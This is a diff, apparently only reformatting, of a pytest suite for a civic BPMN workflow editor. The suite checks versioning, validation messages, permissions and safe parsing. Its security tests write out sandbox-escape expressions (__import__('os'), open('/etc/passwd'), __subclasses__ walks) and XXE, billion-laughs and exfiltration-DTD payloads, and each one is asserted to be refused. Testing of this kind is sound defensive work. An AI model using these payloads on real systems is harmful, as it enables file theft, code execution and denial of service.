@@ -28,11 +28,15 @@ VERSIONS = f"{BASE}/versions"
 START_URL = f"{BASE}/instances"
 XML = "application/xml"
 
-ROLES = ("Requester, Department Head, Communications Manager, Administrative Lieutenant, Social Media Manager, "
-         "City Attorney, Records Officer")
+ROLES = (
+    "Requester, Department Head, Communications Manager, Administrative Lieutenant, Social Media Manager, "
+    "City Attorney, Records Officer"
+)
 FORMS = ", ".join(sorted(procedures.get(KEY).editor_form_keys()))  # the procedure's forms and the written approval
-DEADLINES = ("appeal_response, attorney_consultation, communications_review, department_head_review, "
-             "dispute_acknowledgement, dispute_response")
+DEADLINES = (
+    "appeal_response, attorney_consultation, communications_review, department_head_review, "
+    "dispute_acknowledgement, dispute_response"
+)
 SETUP_TASK = ("confirm_setup", "Set up the account and confirm")
 REMINDER = ("communications_review_reminder", "Reminder before the due date")
 STANDARD_FLOW = ("Flow_standard", "no")
@@ -40,6 +44,7 @@ RECORD_APPROVED = ("record_approved", "Record the approval")
 
 
 # ---- helpers ---------------------------------------------------------------------------------------
+
 
 def edited() -> bytes:
     """The shipped diagram with a Records Officer's check before the Communications Manager's review."""
@@ -139,12 +144,17 @@ COMMS_APPROVE = {"decision": "approve", "comment": "Approved in writing."}
 
 # ---- a draft published, and the requests on each version ----------------------------------------
 
+
 def test_published_draft_is_used_by_new_requests_while_a_running_request_finishes_on_its_version(
-        client, api, make_user, sessions):
+    client, api, make_user, sessions
+):
     make_user("records", department="administration", roles=["records_officer"])
     [shipped_version] = versions_of(api)
     assert (shipped_version["version"], shipped_version["current"], shipped_version["published_by"]) == (
-        1, True, "civicflow")
+        1,
+        True,
+        "civicflow",
+    )
     earlier = start(api)
     assert earlier["version"] == shipped_version["version_hash"]
 
@@ -168,15 +178,20 @@ def test_published_draft_is_used_by_new_requests_while_a_running_request_finishe
     assert later["version"] == new_hash
     listed = versions_of(api)
     assert [(v["version"], v["current"], v["published_by"], v["running_requests"], v["source"]) for v in listed] == [
-        (2, True, "Admin", 1, "api"), (1, False, "civicflow", 1, "shipped")]
+        (2, True, "Admin", 1, "api"),
+        (1, False, "civicflow", 1, "shipped"),
+    ]
     assert listed[0]["version_hash"] == new_hash and listed[0]["created_by"] == "Admin"
     assert draft_xml(api) == (edited(), '"0"')  # no draft now: the editor opens on version 2
 
     # The new request goes through the Records Officer's check that version 2 added.
     [head_task] = later["tasks"]
     [check] = complete(api, "parks_head", head_task["id"], APPROVE)["tasks"]
-    assert (check["name"], check["role"], check["form_key"]) == ("Records check", "records_officer",
-                                                                 "communications_review")
+    assert (check["name"], check["role"], check["form_key"]) == (
+        "Records check",
+        "records_officer",
+        "communications_review",
+    )
     [comms_task] = complete(api, "records", check["id"], COMMS_APPROVE)["tasks"]
     assert comms_task["name"] == "Communications Manager written approval"
 
@@ -186,12 +201,14 @@ def test_published_draft_is_used_by_new_requests_while_a_running_request_finishe
     assert comms_task["name"] == "Communications Manager written approval"
     [setup_task] = complete(api, "comms", comms_task["id"], COMMS_APPROVE)["tasks"]
     done = complete(api, "requester", setup_task["id"], SETUP)
-    assert (done["status"], done["outcome"], done["version"]) == ("completed", "approved",
-                                                                  shipped_version["version_hash"])
+    assert (done["status"], done["outcome"], done["version"]) == (
+        "completed",
+        "approved",
+        shipped_version["version_hash"],
+    )
     record = api("requester").get(f"/api/v1/instances/{earlier['id']}").get_json()
     assert record["version"] == shipped_version["version_hash"]
-    assert [e["actor"] for e in record["history"] if e["action"] == "completed"] == ["parks_head", "comms",
-                                                                                      "requester"]
+    assert [e["actor"] for e in record["history"] if e["action"] == "completed"] == ["parks_head", "comms", "requester"]
     assert api("requester").get(f"/api/v1/instances/{later['id']}").get_json()["version"] == new_hash
     assert audit_actions(sessions).count("process_published") == 1
 
@@ -202,9 +219,8 @@ def test_published_draft_is_used_by_new_requests_while_a_running_request_finishe
     error_of(api("admin").get(f"{VERSIONS}/3"), 404, "not_found")
 
 
-
-
 # ---- every validation problem, at its element ---------------------------------------------------
+
 
 def _unknown_element(element):
     etree.SubElement(element("confirm_setup"), _b("frobnicate"))
@@ -243,19 +259,23 @@ def _unknown_deadline(element):
 
 def _timer(kind: str | None, value: str = ""):
     """The Communications Manager's reminder timer with one value of this kind (None: no value at all)."""
+
     def change(element):
         definition = element("communications_review_reminder_timer")
         for child in list(definition):
             definition.remove(child)
         if kind:
             etree.SubElement(definition, _b(kind)).text = value
+
     return change
 
 
 def _condition(text: str):
     """The "not an investigative profile" flow's condition replaced."""
+
     def change(element):
         element("Flow_standard").find(_b("conditionExpression")).text = text
+
     return change
 
 
@@ -269,73 +289,185 @@ def _underscore_attribute(name: str) -> str:
 
 # (change, [(element id, name, message, text on the line the problem gives)])
 VALIDATION_ERRORS = {
-    "unknown bpmn element (XSD)": (_unknown_element, [
-        (*SETUP_TASK, "BPMN schema: Element 'bpmn:frobnicate': This element is not expected. Expected is one of "
-                      "( bpmn:outgoing, bpmn:ioSpecification, bpmn:property, bpmn:dataInputAssociation, "
-                      "bpmn:dataOutputAssociation, bpmn:resourceRole, bpmn:performer, bpmn:humanPerformer, "
-                      "bpmn:potentialOwner, bpmn:loopCharacteristics ).", "frobnicate")]),
-    "lane not a role": (_lane_not_a_role, [
-        ("Lane_communications_manager", "Press Office",
-         f'Lane "Press Office" is not a role; the roles are {ROLES}.', 'id="Lane_communications_manager"')]),
-    "user task with no formKey": (_no_form_key, [
-        (*SETUP_TASK, "User task has no formKey property (the form it shows).", 'id="confirm_setup"')]),
-    "form key with no form": (_form_key_with_no_form, [
-        (*SETUP_TASK, f'Form key "press_release" has no form; the forms of this procedure are {FORMS}.',
-         'id="confirm_setup"')]),
-    "task with no way out": (_no_way_out, [
-        (*SETUP_TASK, "This element has no way out (no outgoing sequence flow).", 'id="confirm_setup"')]),
-    "gateway flow with no condition": (_flow_without_condition, [
-        ("Flow_head_rejected", "reject", 'The flow "reject" out of the gateway "Department Head\'s decision" has '
-                                         "no condition and is not its default flow.", 'id="Flow_head_rejected"')]),
-    "unknown deadline": (_unknown_deadline, [
-        ("communications_review", "Communications Manager written approval",
-         f'Deadline "someday" is unknown; the deadlines are {DEADLINES}.', 'id="communications_review"')]),
-    "condition that does not compile": (_condition('decision == "approve" and'), [
-        (*STANDARD_FLOW, _refused("SyntaxError: invalid syntax at statement: 'decision == \"approve\" and'"),
-         'decision == "approve" and')]),
-    "condition with an import": (_condition('__import__("os").system("id")'), [
-        (*STANDARD_FLOW, _refused('"__import__" is an invalid variable name because it starts with "_"'),
-         "__import__")]),
-    "condition calling open()": (_condition('open("/etc/passwd").read()'), [
-        (*STANDARD_FLOW, _refused('"open" is not available in diagram expressions.'), "open(")]),
-    "condition walking __class__ to __subclasses__": (_condition("().__class__.__base__.__subclasses__()"), [
-        (*STANDARD_FLOW, _underscore_attribute(name), "__subclasses__")
-        for name in ("__subclasses__", "__base__", "__class__")]),
-    "condition reading a lambda's __globals__": (_condition("(lambda: 0).__globals__"), [
-        (*STANDARD_FLOW, _underscore_attribute("__globals__"), "__globals__")]),
-    "condition returning __builtins__ from a lambda": (_condition("(lambda: __builtins__)()"), [
-        (*STANDARD_FLOW, _refused('"__builtins__" is an invalid variable name because it starts with "_"'),
-         "__builtins__")]),
-    "condition calling getattr": (_condition('getattr(decision, "__class__")'), [
-        (*STANDARD_FLOW, _refused('"getattr" is not available in diagram expressions.'), "getattr(")]),
-    "timer duration P2X": (_timer("timeDuration", '"P2X"'), [
-        (*REMINDER, '"P2X" is not a valid ISO 8601 duration; for example P2D (two days) or PT4H (four hours).',
-         "P2X")]),
-    "timer duration not in quotes": (_timer("timeDuration", "P2D"), [
-        (*REMINDER, 'Write the timeDuration in quotes, "P2D": unquoted, it is read as the name of a value in the '
-                    "request.", "P2D")]),
-    "timer date that does not exist": (_timer("timeDate", '"2026-02-30T09:00:00-06:00"'), [
-        (*REMINDER, '"2026-02-30T09:00:00-06:00" is not a valid ISO 8601 date and time; for example '
-                    "2026-12-01T09:00:00-06:00.", "2026-02-30")]),
-    "timer cycle": (_timer("timeCycle", '"R3/PT1H"'), [
-        (*REMINDER, "Repeating timers (timeCycle) are not supported; use a timeDate or timeDuration.", "R3/PT1H")]),
-    "timer with no value": (_timer(None), [
-        (*REMINDER, "This timer has no value (a timeDate or a timeDuration).",
-         'id="communications_review_reminder_timer"')]),
-    "timer helper with an unknown deadline": (_timer("timeDate", 'reminder_time("someday")'), [
-        (*REMINDER, f"reminder_time() takes one quoted deadline: {DEADLINES}.", "someday")]),
-    "timer helper in a timeDuration": (_timer("timeDuration", 'due_time("communications_review")'), [
-        (*REMINDER, "due_time() gives a date and time; put it in a timeDate, not a timeDuration.", "due_time")]),
+    "unknown bpmn element (XSD)": (
+        _unknown_element,
+        [
+            (
+                *SETUP_TASK,
+                "BPMN schema: Element 'bpmn:frobnicate': This element is not expected. Expected is one of "
+                "( bpmn:outgoing, bpmn:ioSpecification, bpmn:property, bpmn:dataInputAssociation, "
+                "bpmn:dataOutputAssociation, bpmn:resourceRole, bpmn:performer, bpmn:humanPerformer, "
+                "bpmn:potentialOwner, bpmn:loopCharacteristics ).",
+                "frobnicate",
+            )
+        ],
+    ),
+    "lane not a role": (
+        _lane_not_a_role,
+        [
+            (
+                "Lane_communications_manager",
+                "Press Office",
+                f'Lane "Press Office" is not a role; the roles are {ROLES}.',
+                'id="Lane_communications_manager"',
+            )
+        ],
+    ),
+    "user task with no formKey": (
+        _no_form_key,
+        [(*SETUP_TASK, "User task has no formKey property (the form it shows).", 'id="confirm_setup"')],
+    ),
+    "form key with no form": (
+        _form_key_with_no_form,
+        [
+            (
+                *SETUP_TASK,
+                f'Form key "press_release" has no form; the forms of this procedure are {FORMS}.',
+                'id="confirm_setup"',
+            )
+        ],
+    ),
+    "task with no way out": (
+        _no_way_out,
+        [(*SETUP_TASK, "This element has no way out (no outgoing sequence flow).", 'id="confirm_setup"')],
+    ),
+    "gateway flow with no condition": (
+        _flow_without_condition,
+        [
+            (
+                "Flow_head_rejected",
+                "reject",
+                'The flow "reject" out of the gateway "Department Head\'s decision" has '
+                "no condition and is not its default flow.",
+                'id="Flow_head_rejected"',
+            )
+        ],
+    ),
+    "unknown deadline": (
+        _unknown_deadline,
+        [
+            (
+                "communications_review",
+                "Communications Manager written approval",
+                f'Deadline "someday" is unknown; the deadlines are {DEADLINES}.',
+                'id="communications_review"',
+            )
+        ],
+    ),
+    "condition that does not compile": (
+        _condition('decision == "approve" and'),
+        [
+            (
+                *STANDARD_FLOW,
+                _refused("SyntaxError: invalid syntax at statement: 'decision == \"approve\" and'"),
+                'decision == "approve" and',
+            )
+        ],
+    ),
+    "condition with an import": (
+        _condition('__import__("os").system("id")'),
+        [
+            (
+                *STANDARD_FLOW,
+                _refused('"__import__" is an invalid variable name because it starts with "_"'),
+                "__import__",
+            )
+        ],
+    ),
+    "condition calling open()": (
+        _condition('open("/etc/passwd").read()'),
+        [(*STANDARD_FLOW, _refused('"open" is not available in diagram expressions.'), "open(")],
+    ),
+    "condition walking __class__ to __subclasses__": (
+        _condition("().__class__.__base__.__subclasses__()"),
+        [
+            (*STANDARD_FLOW, _underscore_attribute(name), "__subclasses__")
+            for name in ("__subclasses__", "__base__", "__class__")
+        ],
+    ),
+    "condition reading a lambda's __globals__": (
+        _condition("(lambda: 0).__globals__"),
+        [(*STANDARD_FLOW, _underscore_attribute("__globals__"), "__globals__")],
+    ),
+    "condition returning __builtins__ from a lambda": (
+        _condition("(lambda: __builtins__)()"),
+        [
+            (
+                *STANDARD_FLOW,
+                _refused('"__builtins__" is an invalid variable name because it starts with "_"'),
+                "__builtins__",
+            )
+        ],
+    ),
+    "condition calling getattr": (
+        _condition('getattr(decision, "__class__")'),
+        [(*STANDARD_FLOW, _refused('"getattr" is not available in diagram expressions.'), "getattr(")],
+    ),
+    "timer duration P2X": (
+        _timer("timeDuration", '"P2X"'),
+        [
+            (
+                *REMINDER,
+                '"P2X" is not a valid ISO 8601 duration; for example P2D (two days) or PT4H (four hours).',
+                "P2X",
+            )
+        ],
+    ),
+    "timer duration not in quotes": (
+        _timer("timeDuration", "P2D"),
+        [
+            (
+                *REMINDER,
+                'Write the timeDuration in quotes, "P2D": unquoted, it is read as the name of a value in the request.',
+                "P2D",
+            )
+        ],
+    ),
+    "timer date that does not exist": (
+        _timer("timeDate", '"2026-02-30T09:00:00-06:00"'),
+        [
+            (
+                *REMINDER,
+                '"2026-02-30T09:00:00-06:00" is not a valid ISO 8601 date and time; for example '
+                "2026-12-01T09:00:00-06:00.",
+                "2026-02-30",
+            )
+        ],
+    ),
+    "timer cycle": (
+        _timer("timeCycle", '"R3/PT1H"'),
+        [(*REMINDER, "Repeating timers (timeCycle) are not supported; use a timeDate or timeDuration.", "R3/PT1H")],
+    ),
+    "timer with no value": (
+        _timer(None),
+        [
+            (
+                *REMINDER,
+                "This timer has no value (a timeDate or a timeDuration).",
+                'id="communications_review_reminder_timer"',
+            )
+        ],
+    ),
+    "timer helper with an unknown deadline": (
+        _timer("timeDate", 'reminder_time("someday")'),
+        [(*REMINDER, f"reminder_time() takes one quoted deadline: {DEADLINES}.", "someday")],
+    ),
+    "timer helper in a timeDuration": (
+        _timer("timeDuration", 'due_time("communications_review")'),
+        [(*REMINDER, "due_time() gives a date and time; put it in a timeDate, not a timeDuration.", "due_time")],
+    ),
 }
 
 
 def assert_problems_point_into(xml: bytes, problems: list[dict], expected: list[tuple]) -> None:
     """Each problem names its element (and its name) with the exact message, at a line holding what is wrong."""
     assert sorted((p.get("element"), p.get("name"), p["message"]) for p in problems) == sorted(
-        (element, name, message) for element, name, message, _ in expected)
+        (element, name, message) for element, name, message, _ in expected
+    )
     for problem in problems:
-        [marker] = {m for element, _, message, m in expected if (element, message) == (problem["element"],
-                                                                                        problem["message"])}
+        [marker] = {
+            m for element, _, message, m in expected if (element, message) == (problem["element"], problem["message"])
+        }
         assert marker in line_of(xml, problem["line"]), (problem, line_of(xml, problem["line"]))
 
 
@@ -359,8 +491,13 @@ def test_each_problem_is_listed_at_its_element_and_blocks_publishing(client, api
 
 
 def test_a_draft_with_several_problems_lists_them_all(client, api, sessions):
-    cases = ("lane not a role", "user task with no formKey", "condition calling open()", "timer cycle",
-             "gateway flow with no condition")
+    cases = (
+        "lane not a role",
+        "user task with no formKey",
+        "condition calling open()",
+        "timer cycle",
+        "gateway flow with no condition",
+    )
     xml = shipped(KEY)
     for case in cases:
         xml = edit(xml, VALIDATION_ERRORS[case][0])
@@ -389,8 +526,9 @@ def test_a_document_that_is_not_well_formed_bpmn_is_refused_with_its_line_and_no
     not_bpmn = b"<?xml version='1.0'?>\n<html><body>Hello</body></html>"
     error = error_of(put_draft(client, api, not_bpmn), 400, "invalid_diagram")
     [problem] = error["problems"]
-    assert problem["message"].startswith('The document\'s root element is "html"; a BPMN 2.0 diagram starts with '
-                                         '"definitions"')
+    assert problem["message"].startswith(
+        'The document\'s root element is "html"; a BPMN 2.0 diagram starts with "definitions"'
+    )
     assert draft_xml(api) == (edited(), '"1"')
     assert audit_actions(sessions).count("process_draft_saved") == 1
 
@@ -406,12 +544,12 @@ def _hostile(kind: str, secret_file) -> bytes:
     uri = secret_file.as_uri()
     doctypes = {
         "external entity": f'<!DOCTYPE bpmn:definitions [\n  <!ENTITY xxe SYSTEM "{uri}">\n]>',
-        "billion laughs": "<!DOCTYPE bpmn:definitions [\n  <!ENTITY lol \"lol\">\n" + "".join(
-            f'  <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n' for n in range(1, 10))
-            + "]>",
+        "billion laughs": '<!DOCTYPE bpmn:definitions [\n  <!ENTITY lol "lol">\n'
+        + "".join(f'  <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n' for n in range(1, 10))
+        + "]>",
         "external DTD": f'<!DOCTYPE bpmn:definitions SYSTEM "{uri}">',
         "parameter entity": f'<!DOCTYPE bpmn:definitions [\n  <!ENTITY % file SYSTEM "{uri}">\n'
-                            '  <!ENTITY % remote SYSTEM "http://127.0.0.1:9/exfiltrate.dtd">\n  %remote;\n]>',
+        '  <!ENTITY % remote SYSTEM "http://127.0.0.1:9/exfiltrate.dtd">\n  %remote;\n]>',
     }
     reference = {"external entity": "&xxe;", "billion laughs": "&lol9;"}.get(kind, "")
     body = body.replace(b"<bpmn:documentation>", b"<bpmn:documentation>" + reference.encode(), 1)
@@ -440,7 +578,8 @@ def hostile(kind: str, secret_file) -> bytes:
 @SQLITE_ONLY
 @pytest.mark.parametrize("kind", HOSTILE)
 def test_a_doctype_is_refused_through_the_api_and_the_upload_and_nothing_is_stored_or_read(
-        client, api, browser_as, sessions, secret_file, kind):
+    client, api, browser_as, sessions, secret_file, kind
+):
     assert put_draft(client, api, edited()).status_code == 200
     attack = hostile(kind, secret_file)
 
@@ -448,13 +587,17 @@ def test_a_doctype_is_refused_through_the_api_and_the_upload_and_nothing_is_stor
     error = error_of(response, 400, "invalid_diagram")
     assert error["message"] == "The diagram declares a DOCTYPE, which is not allowed."
     assert [p["message"] for p in error["problems"]] == [
-        "DOCTYPE declarations (and the entities they carry) are not allowed."]
+        "DOCTYPE declarations (and the entities they carry) are not allowed."
+    ]
     assert SECRET not in response.get_data(as_text=True)
 
     admin = browser_as("admin")
     token = csrf_token(admin.get("/admin/processes/"))
-    page = admin.post(f"/admin/processes/{KEY}/upload", content_type="multipart/form-data",
-                      data={"csrf_token": token, "file": (io.BytesIO(attack), "appeal.bpmn")})
+    page = admin.post(
+        f"/admin/processes/{KEY}/upload",
+        content_type="multipart/form-data",
+        data={"csrf_token": token, "file": (io.BytesIO(attack), "appeal.bpmn")},
+    )
     assert page.status_code == 400
     assert "DOCTYPE" in page.get_data(as_text=True)
     assert SECRET not in page.get_data(as_text=True)
@@ -465,14 +608,16 @@ def test_a_doctype_is_refused_through_the_api_and_the_upload_and_nothing_is_stor
 
 @SQLITE_ONLY
 def test_an_xinclude_is_never_followed_and_blocks_publishing(client, api, secret_file):
-    xinclude = (f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret_file.as_uri()}" '
-                'parse="text"/>').encode()
+    xinclude = (
+        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret_file.as_uri()}" parse="text"/>'
+    ).encode()
     xml = shipped(KEY).replace(b"<bpmn:documentation>", b"<bpmn:documentation>" + xinclude, 1)
     saved = put_draft(client, api, xml)
     assert saved.status_code == 200, saved.get_json()
     assert saved.get_json()["publishable"] is False
     assert "XInclude is not allowed: a diagram cannot pull in other files." in [
-        p["message"] for p in saved.get_json()["problems"]]
+        p["message"] for p in saved.get_json()["problems"]
+    ]
     error = error_of(api("admin").post(PUBLISH), 400, "invalid_diagram")
     [problem] = [p for p in error["problems"] if p["message"].startswith("XInclude")]
     assert "xi:include" in line_of(xml, problem["line"])
@@ -484,50 +629,75 @@ def test_an_xinclude_is_never_followed_and_blocks_publishing(client, api, secret
 def test_a_body_too_large_not_xml_or_empty_is_refused_before_it_is_parsed(client, api, sessions):
     not_even_xml = b"<" * (MAX_DIAGRAM_BYTES + 1)
     error_of(put_draft(client, api, not_even_xml), 413, "too_large")
-    for content_type in ("text/plain", "application/json", "multipart/form-data",
-                         "application/x-www-form-urlencoded"):
+    for content_type in ("text/plain", "application/json", "multipart/form-data", "application/x-www-form-urlencoded"):
         error_of(put_draft(client, api, edited(), content_type=content_type), 415, "unsupported_media_type")
     for body in (b"", b"  \n\t "):
         error_of(put_draft(client, api, body), 400, "invalid")
-    error_of(client.put("/api/v1/processes/no_such_procedure/draft", headers=api("admin").headers, data=edited(),
-                        content_type=XML), 404, "not_found")
+    error_of(
+        client.put(
+            "/api/v1/processes/no_such_procedure/draft", headers=api("admin").headers, data=edited(), content_type=XML
+        ),
+        404,
+        "not_found",
+    )
     assert draft_json(client, api)["revision"] == 0
     assert "process_draft_saved" not in audit_actions(sessions)
 
 
 # ---- the sandbox's verdict on an uploaded diagram ------------------------------------------------
 
-_FORMAT = _refused('".format()" is not available in diagram expressions (it reads attributes from inside a string); '
-                  "join strings with +.")
+_FORMAT = _refused(
+    '".format()" is not available in diagram expressions (it reads attributes from inside a string); '
+    "join strings with +."
+)
 ESCAPES = {
-    "import os": ("import os\noutcome = os.getcwd()", '__import__("os").getcwd()',
-                  [_refused("imports are not allowed in diagram expressions.")],
-                  [_refused('"__import__" is an invalid variable name because it starts with "_"')]),
-    "open /etc/passwd": ('outcome = open("/etc/passwd").read()', 'open("/etc/passwd").read() == ""',
-                         [_refused('"open" is not available in diagram expressions.')],
-                         [_refused('"open" is not available in diagram expressions.')]),
-    "__class__.__mro__": ("outcome = ().__class__.__mro__", "().__class__.__mro__",
-                          [_underscore_attribute("__mro__"), _underscore_attribute("__class__")],
-                          [_underscore_attribute("__mro__"), _underscore_attribute("__class__")]),
-    "f-string attribute": ('outcome = f"{().__class__}"', 'f"{().__class__}" == ""',
-                           [_underscore_attribute("__class__")], [_underscore_attribute("__class__")]),
+    "import os": (
+        "import os\noutcome = os.getcwd()",
+        '__import__("os").getcwd()',
+        [_refused("imports are not allowed in diagram expressions.")],
+        [_refused('"__import__" is an invalid variable name because it starts with "_"')],
+    ),
+    "open /etc/passwd": (
+        'outcome = open("/etc/passwd").read()',
+        'open("/etc/passwd").read() == ""',
+        [_refused('"open" is not available in diagram expressions.')],
+        [_refused('"open" is not available in diagram expressions.')],
+    ),
+    "__class__.__mro__": (
+        "outcome = ().__class__.__mro__",
+        "().__class__.__mro__",
+        [_underscore_attribute("__mro__"), _underscore_attribute("__class__")],
+        [_underscore_attribute("__mro__"), _underscore_attribute("__class__")],
+    ),
+    "f-string attribute": (
+        'outcome = f"{().__class__}"',
+        'f"{().__class__}" == ""',
+        [_underscore_attribute("__class__")],
+        [_underscore_attribute("__class__")],
+    ),
     # str.format reads attributes inside the string: "{0.__class__}" walks to the class like the f-string does.
-    "str.format attribute": ('outcome = "{0.__class__.__mro__}".format(())', '"{0.__class__}".format(decision)',
-                             [_FORMAT], [_FORMAT]),
+    "str.format attribute": (
+        'outcome = "{0.__class__.__mro__}".format(())',
+        '"{0.__class__}".format(decision)',
+        [_FORMAT],
+        [_FORMAT],
+    ),
 }
 
 
 @SQLITE_ONLY
 @pytest.mark.parametrize("escape", list(ESCAPES))
-def test_a_sandbox_escape_in_an_uploaded_diagram_is_refused_on_each_element(client, api, browser_as, sessions,
-                                                                          escape):
+def test_a_sandbox_escape_in_an_uploaded_diagram_is_refused_on_each_element(client, api, browser_as, sessions, escape):
     script, condition, script_messages, condition_messages = ESCAPES[escape]
     xml = set_text(shipped(KEY), "record_approved", "script", script)
     xml = set_text(xml, "Flow_standard", "conditionExpression", condition)
     admin = browser_as("admin")
     token = csrf_token(admin.get("/admin/processes/"))
-    uploaded = admin.post(f"/admin/processes/{KEY}/upload", content_type="multipart/form-data",
-                          data={"csrf_token": token, "file": (io.BytesIO(xml), f"{KEY}.bpmn")})
+    uploaded = admin.post(
+        f"/admin/processes/{KEY}/upload",
+        content_type="multipart/form-data",
+        data={"csrf_token": token, "file": (io.BytesIO(xml), f"{KEY}.bpmn")},
+    )
     assert uploaded.status_code == 303
 
     draft = draft_json(client, api)
@@ -544,28 +714,41 @@ def test_a_sandbox_escape_in_an_uploaded_diagram_is_refused_on_each_element(clie
 # ---- who may ------------------------------------------------------------------------------------
 
 ENDPOINTS = [
-    ("get", DRAFT, None), ("put", DRAFT, "xml"), ("post", PUBLISH, None), ("post", PUBLISH, {"version": 1}),
-    ("get", VERSIONS, None), ("get", f"{VERSIONS}/1", None), ("get", f"{BASE}/diff?from=1&to=draft", None),
+    ("get", DRAFT, None),
+    ("put", DRAFT, "xml"),
+    ("post", PUBLISH, None),
+    ("post", PUBLISH, {"version": 1}),
+    ("get", VERSIONS, None),
+    ("get", f"{VERSIONS}/1", None),
+    ("get", f"{BASE}/diff?from=1&to=draft", None),
 ]
 
 
 def test_only_administrators_may_use_the_editor_api(client, api, unchanged):
     assert put_draft(client, api, edited()).status_code == 200
     before = (versions_of(api), draft_xml(api))
-    callers = [(api("comms").headers, 403, "forbidden"), (api("parks_head").headers, 403, "forbidden"),
-               ({}, 401, "unauthorized"), ({"Authorization": "Bearer not-a-token"}, 401, "unauthorized")]
+    callers = [
+        (api("comms").headers, 403, "forbidden"),
+        (api("parks_head").headers, 403, "forbidden"),
+        ({}, 401, "unauthorized"),
+        ({"Authorization": "Bearer not-a-token"}, 401, "unauthorized"),
+    ]
     with unchanged():
         for method, path, body in ENDPOINTS:
             kwargs = {"data": edited(), "content_type": XML} if body == "xml" else {"json": body} if body else {}
             for headers, status, code in callers:
                 response = getattr(client, method)(path, headers=headers, **kwargs)
                 assert (response.status_code, response.get_json()["error"]["code"]) == (status, code), (
-                    method, path, headers)
+                    method,
+                    path,
+                    headers,
+                )
                 assert "<bpmn:" not in response.get_data(as_text=True)
     assert (versions_of(api), draft_xml(api)) == before
 
 
 # ---- If-Match: no one overwrites someone else's work --------------------------------------------
+
 
 def test_saving_from_a_stale_revision_is_409_and_keeps_the_newer_draft(client, api, sessions):
     first = put_draft(client, api, edited(), headers={"If-Match": '"0"'})
@@ -596,6 +779,7 @@ def test_publishing_from_a_stale_revision_or_with_no_draft_is_409_and_publishes_
 
 # ---- publishing an earlier version again --------------------------------------------------------
 
+
 def test_an_earlier_version_published_again_is_used_by_new_requests(client, api, sessions):
     put_draft(client, api, edited())
     assert api("admin").post(PUBLISH).status_code == 200
@@ -606,7 +790,9 @@ def test_an_earlier_version_published_again_is_used_by_new_requests(client, api,
     assert (again.get_json()["version"], again.get_json()["version_hash"]) == (1, first["version_hash"])
     assert start(api)["version"] == first["version_hash"]
     assert [(v["version"], v["current"], v["published_by"]) for v in versions_of(api)] == [
-        (2, False, "Admin"), (1, True, "Admin")]
+        (2, False, "Admin"),
+        (1, True, "Admin"),
+    ]
 
     error = error_of(api("admin").post(PUBLISH, json={"version": 1}), 409, "conflict")
     assert "already" in error["message"]
@@ -649,12 +835,22 @@ def test_the_difference_lists_the_added_task_and_the_changed_flow(client, api):
     assert added["Flow_records_check"]["properties"] == {"From": CHECK, "To": REVIEW}
     assert (added["Lane_records_check"]["type"], added["Lane_records_check"]["name"]) == ("Lane", "Records Officer")
     assert difference["removed"] == []
-    assert difference["changed"] == [{"id": "Flow_standard", "type": "Sequence flow", "name": "no", "changes": [
-        {"property": "To", "before": REVIEW, "after": CHECK}]}]
+    assert difference["changed"] == [
+        {
+            "id": "Flow_standard",
+            "type": "Sequence flow",
+            "name": "no",
+            "changes": [{"property": "To", "before": REVIEW, "after": CHECK}],
+        }
+    ]
 
     back = api("admin").get(f"{BASE}/diff?from=2&to=1").get_json()
     assert {item["id"] for item in back["removed"]} == set(added)
-    assert api("admin").get(f"{BASE}/diff?from=1&to=1").get_json() == {"added": [], "removed": [], "changed": [],
-                                                                        "moved": []}
+    assert api("admin").get(f"{BASE}/diff?from=1&to=1").get_json() == {
+        "added": [],
+        "removed": [],
+        "changed": [],
+        "moved": [],
+    }
     error = error_of(api("admin").get(f"{BASE}/diff?from=one&to=2"), 400, "invalid")
     assert "from" in error["fields"]
